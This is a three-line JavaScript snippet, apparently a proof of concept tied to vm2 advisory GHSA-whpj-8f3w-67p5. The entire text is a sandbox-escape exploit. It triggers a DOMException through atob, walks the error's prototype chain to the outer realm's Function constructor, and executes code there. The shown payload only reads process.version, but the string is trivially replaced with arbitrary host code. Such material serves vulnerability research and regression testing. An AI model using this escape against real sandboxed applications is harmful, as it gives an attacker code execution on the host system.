// The chain of prototypes of a DOMException.
// Source: vm2, GHSA-whpj-8f3w-67p5 (errors of the outer realm).
try { atob("***") } catch (error) { let found = error; while (Object.getPrototypeOf(found)) found = Object.getPrototypeOf(found); return found.constructor.constructor("return process.version")() }
